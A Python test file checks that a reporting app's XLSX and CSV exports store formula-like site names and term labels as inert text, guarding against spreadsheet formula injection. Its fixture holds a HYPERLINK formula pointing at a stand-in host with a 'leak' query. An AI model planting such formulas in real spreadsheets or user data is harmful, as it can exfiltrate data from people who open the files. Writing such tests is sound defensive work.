"""A report's XLSX and CSV carry a site name or term label that looks like a formula as text."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from frirum.reports.render import render_report
from frirum.sites.models import Site
from frirum.taxonomies.models import Term
from tests.reports.presentation_fixtures import RenderTestCase, annual_figures

HYPERLINK = '=HYPERLINK("http://x.example/?leak","klik")'


class FormulaCellsTests(RenderTestCase):
    def setUp(self):
        Term.objects.filter(code="anxiety").update(label_da="=1+1", label_en="=1+1")
        Term.objects.filter(code="stress").update(label_da="-5 ting", label_en="-5 ting")
        self.figures = annual_figures()
        self.figures["site"]["name"] = HYPERLINK
        Site.objects.filter(code="alpha").update(name=HYPERLINK)

    def render(self, fmt: str) -> bytes:
        return render_report(
            kind="annual", figures=self.figures, previous=None, fmt=fmt, language="da", k=5
        )

    def test_it_writes_no_formula_into_the_xlsx(self):
        body = self.render("xlsx")
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            for name in sheets:
                self.assertNotIn(b"<f>", archive.read(name), name)
        workbook = load_workbook(io.BytesIO(body))
        texts = {
            cell.value: cell
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        }
        for label in ("=1+1", "-5 ting"):
            self.assertEqual(texts[label].data_type, "s")
            self.assertTrue(texts[label].quotePrefix)
        self.assertTrue(any(HYPERLINK in text for text in texts))
        numbers = [
            cell.value
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, int | float)
        ]
        self.assertIn(84, numbers)

    def test_it_writes_inert_labels_into_the_csv(self):
        text = self.render("csv").decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        labels = {row["label"] for row in rows}
        self.assertIn("'=1+1", labels)
        self.assertIn("'-5 ting", labels)
        self.assertNotIn("=1+1", labels)
        for row in rows:
            for value in row.values():
                self.assertFalse(value.startswith(("=", "+", "@", "\t", "\r")), row)
        personal = next(r for r in rows if r["figure"] == "youth" and r["key"] == "personal")
        self.assertEqual(personal["value"], "84")
